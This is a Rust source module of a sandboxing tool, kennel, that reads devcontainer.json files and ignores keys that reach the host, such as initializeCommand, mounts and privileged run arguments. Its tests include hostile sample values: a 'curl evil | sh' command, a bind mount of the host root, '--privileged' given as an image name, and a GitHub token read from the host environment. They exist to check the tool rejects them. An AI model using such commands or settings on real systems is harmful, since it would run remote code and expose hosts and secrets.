//! The project's development environment as `devcontainer.json` describes
//! it (containers.dev): the image the agent's image is built on, constant
//! variables, and the lifecycle commands that run inside the container.
//!
//! The file is the repository's, so it is read like `.kennel.toml`: never
//! through a symbolic link (every component opened with `O_NOFOLLOW`), at
//! most 1 MiB, and only what cannot reach the host or weaken the sandbox
//! is taken. `initializeCommand` (it runs on the host), `mounts`,
//! `runArgs`, `privileged`, `capAdd`, `securityOpt`, `forwardPorts`,
//! `appPort`, `workspaceMount`, `${localEnv:…}` and the like are ignored,
//! each named in one warning; a docker-compose configuration is refused.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use serde::{Deserialize, Serialize};
use serde_json::Value;

use crate::settings::sh_quote;

/// Keys kennel ignores, because they would reach the host or weaken the
/// sandbox, or have no meaning for it.
const IGNORED: &[&str] = &[
    "initializeCommand",
    "mounts",
    "runArgs",
    "privileged",
    "capAdd",
    "securityOpt",
    "init",
    "forwardPorts",
    "appPort",
    "portsAttributes",
    "otherPortsAttributes",
    "workspaceMount",
    "workspaceFolder",
    "remoteUser",
    "containerUser",
    "updateRemoteUserUID",
    "userEnvProbe",
    "overrideCommand",
    "shutdownAction",
    "hostRequirements",
    "postAttachCommand",
    "waitFor",
];

/// Keys that describe the editor, not the environment: dropped silently.
const QUIET: &[&str] = &[
    "$schema",
    "name",
    "customizations",
    "overrideFeatureInstallOrder",
];

/// The lifecycle commands kennel runs, in order: the first three once per
/// checkout, `postStartCommand` at every start.
pub const CREATE_STAGES: &[&str] = &[
    "onCreateCommand",
    "updateContentCommand",
    "postCreateCommand",
];
pub const START_STAGE: &str = "postStartCommand";

/// One lifecycle command as devcontainer.json writes it.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case", tag = "kind", content = "run")]
pub enum LifecycleCommand {
    /// A string: run by a shell.
    Shell(String),
    /// An array: run as it is, without a shell.
    Exec(Vec<String>),
}

/// A devcontainer configuration, as far as kennel uses it.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Devcontainer {
    /// The file, for messages.
    pub path: PathBuf,
    /// `image`: the image the agent's image is built on.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub image: Option<String>,
    /// `build`: a Dockerfile (relative to the file), when there is no image.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub build: Option<DockerBuild>,
    /// `containerEnv` and `remoteEnv`, constants only.
    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
    pub env: BTreeMap<String, String>,
    /// Stage name → its commands (an object's commands in key order).
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub lifecycle: Vec<(String, Vec<LifecycleCommand>)>,
    /// `features`, in the file's order.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub features: Vec<FeatureRequest>,
    /// What kennel ignored, for one warning.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub ignored: Vec<String>,
    /// The SHA-256 of the file as read (what `kennel config trust` records).
    #[serde(default, skip_serializing_if = "String::is_empty")]
    pub digest: String,
    /// The user trusted this exact content (`kennel config trust FILE`):
    /// the images and features it names may then be fetched from any
    /// registry. Nothing else changes: what would reach the host or weaken
    /// the sandbox stays ignored.
    #[serde(default, skip_serializing_if = "std::ops::Not::not")]
    pub trusted: bool,
}

/// devcontainer.json's `build`.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct DockerBuild {
    /// The Dockerfile, relative to the devcontainer.json's directory.
    pub dockerfile: String,
    /// The build context, relative to the same directory (default `.`).
    pub context: String,
    /// `args`: constants only.
    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
    pub args: BTreeMap<String, String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub target: Option<String>,
}

/// One entry of `features`: its id (`./local-dir` or an OCI reference)
/// and the options given (a string alone is the `version` option).
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct FeatureRequest {
    pub id: String,
    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
    pub options: BTreeMap<String, String>,
}

impl FeatureRequest {
    /// A feature in the repository: `./name` or `../name`, relative to
    /// the devcontainer.json's directory.
    pub fn is_local(&self) -> bool {
        self.id.starts_with("./") || self.id.starts_with("../")
    }
}

#[derive(Debug, thiserror::Error)]
pub enum DevcontainerError {
    #[error("refusing {path}: {reason}")]
    Unsafe { path: PathBuf, reason: String },
    #[error("{path}:{line}:{column}: {message}")]
    Syntax {
        path: PathBuf,
        line: usize,
        column: usize,
        message: String,
    },
    #[error("{path}:{line}: `{key}`: {message}")]
    Invalid {
        path: PathBuf,
        line: usize,
        key: String,
        message: String,
    },
    #[error("{path}: {message}")]
    Unsupported { path: PathBuf, message: String },
    #[error("no devcontainer configuration `{name}` in {root}")]
    NoSuchName {
        name: String,
        root: PathBuf,
        found: Vec<String>,
    },
}

impl DevcontainerError {
    pub fn hint(&self) -> Option<String> {
        match self {
            DevcontainerError::Unsafe { .. } => Some(
                "kennel reads devcontainer.json only as a regular file of at most 1 MiB, never through a symbolic link"
                    .into(),
            ),
            DevcontainerError::Syntax { .. } | DevcontainerError::Invalid { .. } => Some(
                "fix the file (JSON with comments), or run with --devcontainer none".into(),
            ),
            DevcontainerError::Unsupported { .. } => {
                Some("run with --devcontainer none to use kennel's own image".into())
            }
            DevcontainerError::NoSuchName { found, .. } if !found.is_empty() => Some(format!(
                "the configurations here: {}",
                found.join(", ")
            )),
            DevcontainerError::NoSuchName { .. } => {
                Some("add .devcontainer/NAME/devcontainer.json, or leave --devcontainer out".into())
            }
        }
    }

    /// A name that is not there is a usage error; the rest are the file's.
    pub fn is_usage(&self) -> bool {
        matches!(self, DevcontainerError::NoSuchName { .. })
    }
}

/// The configuration files under `root`, by name: `""` for
/// `.devcontainer/devcontainer.json` or `.devcontainer.json`, `NAME` for
/// `.devcontainer/NAME/devcontainer.json`. Only plain names are listed.
pub fn candidates(root: &Path) -> Vec<(String, PathBuf)> {
    let mut found = Vec::new();
    for relative in [".devcontainer/devcontainer.json", ".devcontainer.json"] {
        if is_plain_file(root, Path::new(relative)) {
            found.push((String::new(), PathBuf::from(relative)));
            break;
        }
    }
    let dir = root.join(".devcontainer");
    let is_dir = std::fs::symlink_metadata(&dir).is_ok_and(|meta| meta.is_dir());
    if is_dir && let Ok(entries) = std::fs::read_dir(&dir) {
        let mut named: Vec<(String, PathBuf)> = entries
            .flatten()
            .filter_map(|entry| entry.file_name().into_string().ok())
            .filter(|name| {
                !name.starts_with('.')
                    && name
                        .bytes()
                        .all(|b| b.is_ascii_alphanumeric() || b"-_.".contains(&b))
            })
            .map(|name| {
                let relative = PathBuf::from(".devcontainer")
                    .join(&name)
                    .join("devcontainer.json");
                (name, relative)
            })
            .filter(|(_, relative)| is_plain_file(root, relative))
            .collect();
        named.sort();
        found.extend(named);
    }
    found
}

fn is_plain_file(root: &Path, relative: &Path) -> bool {
    crate::logins::read_under(root, relative).is_ok_and(|found| found.is_some())
}

/// The devcontainer configuration of the workspace at `root`: `name`
/// chooses one (`none`: none at all); without a name, the default one, or
/// the only named one. Several named ones and no default: none, with a
/// warning.
pub fn find(
    root: &Path,
    name: Option<&str>,
    warnings: &mut Vec<String>,
) -> Result<Option<Devcontainer>, DevcontainerError> {
    if name == Some("none") {
        return Ok(None);
    }
    let found = candidates(root);
    let chosen = match name {
        Some(name) => match found.iter().find(|(candidate, _)| candidate == name) {
            Some((_, relative)) => relative.clone(),
            None => {
                return Err(DevcontainerError::NoSuchName {
                    name: name.to_string(),
                    root: root.to_path_buf(),
                    found: found
                        .into_iter()
                        .map(|(name, _)| name)
                        .filter(|name| !name.is_empty())
                        .collect(),
                });
            }
        },
        None => match found.as_slice() {
            [] => return Ok(None),
            [(_, only)] => only.clone(),
            [(first, relative), ..] if first.is_empty() => relative.clone(),
            several => {
                let names: Vec<&str> = several.iter().map(|(name, _)| name.as_str()).collect();
                warnings.push(format!(
                    "this workspace has several devcontainer configurations ({}): choose one with --devcontainer NAME (none is used)",
                    names.join(", ")
                ));
                return Ok(None);
            }
        },
    };
    load(root, &chosen).map(Some)
}

/// Reads and checks `relative` under `root`.
pub fn load(root: &Path, relative: &Path) -> Result<Devcontainer, DevcontainerError> {
    let path = root.join(relative);
    let bytes = match crate::logins::read_under(root, relative) {
        Ok(Some(found)) => found.bytes,
        Ok(None) => {
            return Err(DevcontainerError::Unsafe {
                path,
                reason: "it is gone".into(),
            });
        }
        Err(error) => {
            return Err(DevcontainerError::Unsafe {
                path,
                reason: error.to_string(),
            });
        }
    };
    let digest = crate::trust::content_digest(&bytes);
    let text = String::from_utf8(bytes).map_err(|_| DevcontainerError::Unsafe {
        path: path.clone(),
        reason: "it is not UTF-8 text".into(),
    })?;
    let mut parsed = parse(&path, &text)?;
    parsed.digest = digest;
    Ok(parsed)
}

/// Parses devcontainer.json `text` (JSON with comments and trailing
/// commas) from `path`.
pub fn parse(path: &Path, text: &str) -> Result<Devcontainer, DevcontainerError> {
    let value: Value =
        jsonc_parser::parse_to_serde_value(text, &Default::default()).map_err(|error| {
            DevcontainerError::Syntax {
                path: path.to_path_buf(),
                line: error.line_display(),
                column: error.column_display(),
                message: error.kind().to_string(),
            }
        })?;
    let Value::Object(top) = value else {
        return Err(DevcontainerError::Invalid {
            path: path.to_path_buf(),
            line: 1,
            key: "(top level)".into(),
            message: "expected an object".into(),
        });
    };
    let invalid = |key: &str, message: String| DevcontainerError::Invalid {
        path: path.to_path_buf(),
        line: line_of(text, key),
        key: key.to_string(),
        message,
    };
    if top.contains_key("dockerComposeFile") {
        return Err(DevcontainerError::Unsupported {
            path: path.to_path_buf(),
            message: "a docker-compose configuration (`dockerComposeFile`) starts services kennel cannot sandbox; kennel supports `image` and `build.dockerfile`".into(),
        });
    }
    let mut out = Devcontainer {
        path: path.to_path_buf(),
        ..Devcontainer::default()
    };
    for (key, value) in &top {
        match key.as_str() {
            "image" => {
                let image = value
                    .as_str()
                    .filter(|image| valid_image(image))
                    .ok_or_else(|| invalid(key, "expected an image reference".into()))?;
                out.image = Some(image.to_string());
            }
            "build" => {
                out.build = Some(
                    build(value, path, &mut out.ignored)
                        .map_err(|message| invalid("build", message))?,
                );
            }
            "containerEnv" | "remoteEnv" => {
                let Value::Object(vars) = value else {
                    return Err(invalid(
                        key,
                        "expected an object of names and values".into(),
                    ));
                };
                for (name, value) in vars {
                    if !crate::settings::valid_env_name(name) {
                        return Err(invalid(name, "not a variable name".into()));
                    }
                    let text = match value {
                        Value::String(text) => text,
                        // remoteEnv: null unsets; nothing to unset here.
                        Value::Null => continue,
                        _ => return Err(invalid(name, "expected a string".into())),
                    };
                    match substitute(text, path) {
                        Some(text) => {
                            out.env.insert(name.clone(), text);
                        }
                        None => out
                            .ignored
                            .push(format!("{key}.{name} (it reads the host's environment)")),
                    }
                }
            }
            "features" => {
                let Value::Object(features) = value else {
                    return Err(invalid(key, "expected an object".into()));
                };
                for (id, options) in features {
                    let options = feature_options(options).ok_or_else(|| {
                        invalid(
                            id,
                            "expected a version string or an object of options".into(),
                        )
                    })?;
                    out.features.push(FeatureRequest {
                        id: id.clone(),
                        options,
                    });
                }
            }
            stage if CREATE_STAGES.contains(&stage) || stage == START_STAGE => {
                let commands = lifecycle(value).ok_or_else(|| {
                    invalid(
                        stage,
                        "expected a string, an array of strings, or an object of them".into(),
                    )
                })?;
                if !commands.is_empty() {
                    out.lifecycle.push((stage.to_string(), commands));
                }
            }
            ignored if IGNORED.contains(&ignored) => out.ignored.push(ignored.to_string()),
            quiet if QUIET.contains(&quiet) => {}
            other => out.ignored.push(format!("{other} (unknown to kennel)")),
        }
    }
    if out.image.is_some() && out.build.is_some() {
        return Err(invalid(
            "build",
            "both `image` and `build` are given: keep one".into(),
        ));
    }
    // The spec's order, whatever the file's.
    let order = |stage: &str| {
        CREATE_STAGES
            .iter()
            .position(|known| *known == stage)
            .unwrap_or(CREATE_STAGES.len())
    };
    out.lifecycle.sort_by_key(|(stage, _)| order(stage));
    Ok(out)
}

/// `build`: `dockerfile` with `context`, `args` and `target`; an argument
/// that reads the host's environment is left out (and named).
fn build(value: &Value, path: &Path, ignored: &mut Vec<String>) -> Result<DockerBuild, String> {
    let text = |key: &str| -> Result<Option<String>, String> {
        match value.get(key) {
            None | Some(Value::Null) => Ok(None),
            Some(Value::String(text)) => Ok(Some(text.clone())),
            Some(_) => Err(format!("`{key}` must be a string")),
        }
    };
    let dockerfile = text("dockerfile")?.ok_or("expected `dockerfile`")?;
    let mut out = DockerBuild {
        dockerfile,
        context: text("context")?.unwrap_or_else(|| ".".into()),
        args: BTreeMap::new(),
        target: text("target")?,
    };
    for (key, relative) in [("dockerfile", &out.dockerfile), ("context", &out.context)] {
        if Path::new(relative).is_absolute() {
            return Err(format!(
                "`{key}` must be relative to the devcontainer.json's folder"
            ));
        }
    }
    if let Some(args) = value.get("args") {
        let Value::Object(args) = args else {
            return Err("`args` must be an object of names and values".into());
        };
        for (name, value) in args {
            let Value::String(given) = value else {
                return Err(format!("`args.{name}` must be a string"));
            };
            match substitute(given, path) {
                Some(given) => {
                    out.args.insert(name.clone(), given);
                }
                None => ignored.push(format!(
                    "build.args.{name} (it reads the host's environment)"
                )),
            }
        }
    }
    for key in ["cacheFrom", "options"] {
        if value.get(key).is_some() {
            ignored.push(format!("build.{key}"));
        }
    }
    Ok(out)
}

/// A feature's options: a string is the `version`; an object's values
/// are strings, booleans or numbers.
fn feature_options(value: &Value) -> Option<BTreeMap<String, String>> {
    match value {
        Value::String(version) => Some([("version".to_string(), version.clone())].into()),
        Value::Bool(true) => Some(BTreeMap::new()),
        Value::Object(options) => options
            .iter()
            .map(|(name, value)| {
                let text = match value {
                    Value::String(text) => text.clone(),
                    Value::Bool(flag) => flag.to_string(),
                    Value::Number(number) => number.to_string(),
                    _ => return None,
                };
                Some((name.clone(), text))
            })
            .collect(),
        _ => None,
    }
}

/// A lifecycle command: a string, an array of strings, or an object whose
/// values are either (run one after another, in key order).
fn lifecycle(value: &Value) -> Option<Vec<LifecycleCommand>> {
    match value {
        Value::String(text) if text.trim().is_empty() => Some(Vec::new()),
        Value::String(text) => Some(vec![LifecycleCommand::Shell(text.clone())]),
        Value::Array(items) if items.is_empty() => Some(Vec::new()),
        Value::Array(items) => items
            .iter()
            .map(|item| item.as_str().map(str::to_string))
            .collect::<Option<Vec<String>>>()
            .map(|argv| vec![LifecycleCommand::Exec(argv)]),
        Value::Object(named) => {
            let mut out = Vec::new();
            for value in named.values() {
                match value {
                    Value::Object(_) => return None,
                    other => out.extend(lifecycle(other)?),
                }
            }
            Some(out)
        }
        _ => None,
    }
}

/// `text` with the variables kennel can give: the workspace's folders
/// (the same path inside). `None` when it reads the host's environment
/// (`${localEnv:…}`) or another variable kennel does not know.
fn substitute(text: &str, path: &Path) -> Option<String> {
    let workspace = path
        .ancestors()
        .find(|dir| dir.file_name().is_some_and(|name| name == ".devcontainer"))
        .and_then(Path::parent)
        .or_else(|| path.parent())
        .unwrap_or(Path::new("/"));
    let basename = workspace
        .file_name()
        .map(|name| name.to_string_lossy().into_owned())
        .unwrap_or_default();
    let folder = workspace.display().to_string();
    let mut out = String::new();
    let mut rest = text;
    while let Some(start) = rest.find("${") {
        out.push_str(&rest[..start]);
        let end = rest[start..].find('}')? + start;
        let name = &rest[start + 2..end];
        out.push_str(match name {
            "localWorkspaceFolder" | "containerWorkspaceFolder" => &folder,
            "localWorkspaceFolderBasename" | "containerWorkspaceFolderBasename" => &basename,
            _ => return None,
        });
        rest = &rest[end + 1..];
    }
    out.push_str(rest);
    Some(out)
}

/// An image reference as Docker writes them: one word, no option, the
/// repository in lower case (a tag may have capitals).
fn valid_image(image: &str) -> bool {
    let name = image.split('@').next().unwrap_or(image);
    let repository = match name.rsplit_once(':') {
        Some((repository, tag)) if !tag.contains('/') => repository,
        _ => name,
    };
    !image.is_empty()
        && !image.starts_with('-')
        && image.len() <= 512
        && !repository.bytes().any(|b| b.is_ascii_uppercase())
        && image
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b"._-/:@".contains(&b))
}

/// The line where `"key"` first appears, for messages (1 when nowhere).
fn line_of(text: &str, key: &str) -> usize {
    text.find(&format!("\"{key}\""))
        .map_or(1, |at| text[..at].matches('\n').count() + 1)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn parsed(text: &str) -> Result<Devcontainer, DevcontainerError> {
        parse(Path::new("/w/app/.devcontainer/devcontainer.json"), text)
    }

    #[test]
    fn comments_trailing_commas_and_what_kennel_takes() {
        let config = parsed(
            r#"{
                // the project's environment
                "name": "app",
                "image": "mcr.microsoft.com/devcontainers/rust:1-bookworm",
                "containerEnv": { "CARGO_TERM_COLOR": "always", "WS": "${containerWorkspaceFolder}/x" },
                "remoteEnv": { "TOKEN": "${localEnv:GITHUB_TOKEN}", "GONE": null },
                "postCreateCommand": "cargo fetch",
                "onCreateCommand": ["make", "deps"],
                "postStartCommand": { "a": "echo a", "b": ["echo", "b"] },
                "initializeCommand": "curl evil | sh",
                "runArgs": ["--privileged"],
                "mounts": ["source=/,target=/host,type=bind"],
                "features": { "ghcr.io/devcontainers/features/go:1": {} },
                "customizations": { "vscode": {} },
            }"#,
        )
        .expect("parses");
        assert_eq!(
            config.image.as_deref(),
            Some("mcr.microsoft.com/devcontainers/rust:1-bookworm")
        );
        assert_eq!(config.env["CARGO_TERM_COLOR"], "always");
        assert_eq!(config.env["WS"], "/w/app/x");
        assert!(!config.env.contains_key("TOKEN") && !config.env.contains_key("GONE"));
        assert_eq!(
            config.lifecycle,
            vec![
                (
                    "onCreateCommand".to_string(),
                    vec![LifecycleCommand::Exec(vec!["make".into(), "deps".into()])]
                ),
                (
                    "postCreateCommand".to_string(),
                    vec![LifecycleCommand::Shell("cargo fetch".into())]
                ),
                (
                    "postStartCommand".to_string(),
                    vec![
                        LifecycleCommand::Shell("echo a".into()),
                        LifecycleCommand::Exec(vec!["echo".into(), "b".into()])
                    ]
                ),
            ]
        );
        assert_eq!(
            config.features,
            [FeatureRequest {
                id: "ghcr.io/devcontainers/features/go:1".into(),
                options: BTreeMap::new()
            }]
        );
        for ignored in ["initializeCommand", "runArgs", "mounts", "remoteEnv.TOKEN"] {
            assert!(
                config.ignored.iter().any(|item| item.starts_with(ignored)),
                "{ignored}: {:?}",
                config.ignored
            );
        }
    }

    #[test]
    fn build_and_features_are_read() {
        let config = parsed(
            r#"{
            "build": { "dockerfile": "Dockerfile", "context": "..", "target": "dev",
                       "args": { "V": "1", "HOSTY": "${localEnv:HOME}" }, "cacheFrom": "x" },
            "features": { "./features/tool": { "greeting": "hi", "loud": true, "n": 3 },
                          "ghcr.io/devcontainers/features/go:1": "1.22" }
        }"#,
        )
        .expect("parse");
        let build = config.build.expect("build");
        assert_eq!(build.dockerfile, "Dockerfile");
        assert_eq!(build.context, "..");
        assert_eq!(build.target.as_deref(), Some("dev"));
        assert_eq!(build.args, [("V".to_string(), "1".to_string())].into());
        assert!(
            config
                .ignored
                .iter()
                .any(|item| item.starts_with("build.args.HOSTY"))
        );
        assert!(config.ignored.iter().any(|item| item == "build.cacheFrom"));
        assert_eq!(config.features.len(), 2);
        assert_eq!(config.features[0].id, "./features/tool");
        assert!(config.features[0].is_local());
        assert_eq!(config.features[0].options["loud"], "true");
        assert_eq!(config.features[0].options["n"], "3");
        assert_eq!(config.features[1].options["version"], "1.22");
        assert!(!config.features[1].is_local());
        assert!(parsed(r#"{ "build": { "dockerfile": "/etc/x" } }"#).is_err());
        assert!(parsed(r#"{ "build": { "context": "." } }"#).is_err());
        assert!(parsed(r#"{ "features": { "./x": [1] } }"#).is_err());
        assert_eq!(
            parsed(r#"{ "build": { "dockerfile": "D" } }"#)
                .expect("d")
                .build
                .expect("b")
                .context,
            "."
        );
    }

    #[test]
    fn errors_name_the_file_line_and_key() {
        let error = parsed("{\n  \"image\": \"x\",\n  oops\n}").expect_err("syntax");
        let text = error.to_string();
        assert!(
            text.starts_with("/w/app/.devcontainer/devcontainer.json:4:1: Expected colon"),
            "{text}"
        );
        let error =
            parsed("{\n\"image\": \"a\",\n\"containerEnv\": { \"X\": 1 }\n}").expect_err("type");
        assert_eq!(
            error.to_string(),
            "/w/app/.devcontainer/devcontainer.json:3: `X`: expected a string"
        );
        let error = parsed("{ \"image\": \"--privileged\" }").expect_err("option");
        assert!(error.to_string().contains("`image`"), "{error}");
        assert!(parsed("{ \"image\": \"Evil.example/X:latest\" }").is_err());
        assert!(parsed("{ \"image\": \"ghcr.io/acme/dev:V1.2\" }").is_ok());
        assert!(parsed("{ \"image\": \"localhost:5000/dev\" }").is_ok());
        let error = parsed("{ \"dockerComposeFile\": \"compose.yml\", \"service\": \"app\" }")
            .expect_err("compose");
        assert!(error.to_string().contains("docker-compose"), "{error}");
        assert!(parsed("[1]").is_err());
        assert!(parsed("{ \"postCreateCommand\": 3 }").is_err());
    }

    #[test]
    fn found_without_following_links_and_chosen_by_name() {
        let root = tempfile::tempdir().expect("tempdir");
        let mut warnings = Vec::new();
        assert_eq!(find(root.path(), None, &mut warnings).expect("none"), None);
        let write = |relative: &str, text: &str| {
            let path = root.path().join(relative);
            std::fs::create_dir_all(path.parent().expect("parent")).expect("dir");
            std::fs::write(path, text).expect("write");
        };
        write(
            ".devcontainer/go/devcontainer.json",
            "{ \"image\": \"golang:1.22\" }",
        );
        write(
            ".devcontainer/node/devcontainer.json",
            "{ \"image\": \"node:22\" }",
        );
        assert_eq!(
            find(root.path(), None, &mut warnings).expect("several"),
            None
        );
        assert!(warnings[0].contains("go, node"), "{warnings:?}");
        let go = find(root.path(), Some("go"), &mut warnings).expect("go");
        assert_eq!(go.and_then(|c| c.image).as_deref(), Some("golang:1.22"));
        assert!(
            find(root.path(), Some("rust"), &mut warnings)
                .expect_err("no rust")
                .is_usage()
        );
        assert_eq!(
            find(root.path(), Some("none"), &mut warnings).expect("none"),
            None
        );
        write(
            ".devcontainer/devcontainer.json",
            "{ \"image\": \"debian:12\" }",
        );
        let default = find(root.path(), None, &mut warnings).expect("default");
        assert_eq!(default.and_then(|c| c.image).as_deref(), Some("debian:12"));

        // A link planted for the host to follow is refused, not read.
        let elsewhere = tempfile::tempdir().expect("tempdir");
        std::fs::write(elsewhere.path().join("secret.json"), "{}").expect("write");
        std::fs::remove_file(root.path().join(".devcontainer/devcontainer.json")).expect("rm");
        std::os::unix::fs::symlink(
            elsewhere.path().join("secret.json"),
            root.path().join(".devcontainer/devcontainer.json"),
        )
        .expect("link");
        assert!(load(root.path(), Path::new(".devcontainer/devcontainer.json")).is_err());
        assert!(
            !candidates(root.path())
                .iter()
                .any(|(name, _)| name.is_empty()),
            "a link is no configuration"
        );
    }
}

impl LifecycleCommand {
    /// The argument vector that runs it (a string through `sh -c`).
    fn argv(&self) -> Vec<String> {
        match self {
            LifecycleCommand::Shell(text) => vec!["sh".into(), "-c".into(), text.clone()],
            LifecycleCommand::Exec(argv) => argv.clone(),
        }
    }

    /// For messages: the command as the file wrote it, on one line.
    fn shown(&self) -> String {
        let text = match self {
            LifecycleCommand::Shell(text) => text.clone(),
            LifecycleCommand::Exec(argv) => argv.join(" "),
        };
        let line: String = text
            .chars()
            .map(|c| if c.is_control() { ' ' } else { c })
            .take(120)
            .collect();
        line
    }
}

impl Devcontainer {
    /// The script that runs the lifecycle commands inside the sandbox, as
    /// the user, in the working directory, before it `exec`s the agent
    /// (its arguments): the create commands once per checkout (a marker
    /// in the agent's home, keyed on the checkout and the commands), then
    /// `postStartCommand` at every start. A failing command stops the run
    /// with its exit code and says which one failed. `None` when there are
    /// no commands.
    pub fn lifecycle_script(&self, checkout: &Path) -> Option<String> {
        if self.lifecycle.is_empty() {
            return None;
        }
        let run = |stage: &str, command: &LifecycleCommand| {
            let argv: Vec<String> = command.argv().iter().map(|arg| sh_quote(arg)).collect();
            format!(
                "kennel_run {} {} {}\n",
                sh_quote(stage),
                sh_quote(&command.shown()),
                argv.join(" ")
            )
        };
        let mut create = String::new();
        let mut start = String::new();
        for (stage, commands) in &self.lifecycle {
            let target = if stage == START_STAGE {
                &mut start
            } else {
                &mut create
            };
            for command in commands {
                target.push_str(&run(stage, command));
            }
        }
        let mut script = String::from(
            "kennel_run() { stage=$1; shown=$2; shift 2; \
             echo \"kennel: devcontainer.json $stage: $shown\" >&2; \
             \"$@\" || { status=$?; echo \"kennel: the devcontainer's $stage failed (exit $status); the agent does not start\" >&2; exit $status; }; }\n",
        );
        if !create.is_empty() {
            let key = crate::trust::content_digest(
                format!("{}\n{create}", checkout.display()).as_bytes(),
            );
            script.push_str(&format!(
                "marker=\"$HOME/.cache/kennel/devcontainer/{}\"\n\
                 if [ ! -e \"$marker\" ]; then\n{create}\
                 mkdir -p \"$HOME/.cache/kennel/devcontainer\" && : > \"$marker\"\nfi\n",
                &key[..16]
            ));
        }
        script.push_str(&start);
        script.push_str("exec \"$@\"\n");
        Some(script)
    }
}

#[cfg(test)]
mod script_tests {
    use super::*;

    /// The script runs as sh would: create commands once, start commands
    /// every time, a failure stops before the agent with its code.
    #[test]
    fn lifecycle_commands_run_once_and_every_start() {
        let dir = tempfile::tempdir().expect("tempdir");
        let log = dir.path().join("log");
        let config = parse(
            Path::new("/w/.devcontainer/devcontainer.json"),
            &format!(
                r#"{{ "postCreateCommand": "echo created >> {log}",
                     "onCreateCommand": ["sh", "-c", "echo 'on create' >> {log}"],
                     "postStartCommand": "echo started >> {log}" }}"#,
                log = log.display()
            ),
        )
        .expect("parses");
        let script = config.lifecycle_script(Path::new("/w")).expect("script");
        let run = || {
            std::process::Command::new("sh")
                .args(["-c", &script, "kennel-devcontainer", "sh", "-c", "exit 7"])
                .env("HOME", dir.path())
                .status()
                .expect("sh runs")
                .code()
        };
        assert_eq!(run(), Some(7), "the agent's own code");
        assert_eq!(run(), Some(7));
        assert_eq!(
            std::fs::read_to_string(&log).expect("log"),
            "on create\ncreated\nstarted\nstarted\n"
        );
        let failing = parse(
            Path::new("/w/.devcontainer/devcontainer.json"),
            r#"{ "postStartCommand": "exit 3" }"#,
        )
        .expect("parses")
        .lifecycle_script(Path::new("/w"))
        .expect("script");
        let out = std::process::Command::new("sh")
            .args([
                "-c",
                &failing,
                "kennel-devcontainer",
                "touch",
                "/nonexistent/agent-ran",
            ])
            .env("HOME", dir.path())
            .output()
            .expect("sh runs");
        assert_eq!(out.status.code(), Some(3));
        assert!(
            String::from_utf8_lossy(&out.stderr).contains("postStartCommand failed (exit 3)"),
            "{out:?}"
        );
    }
}
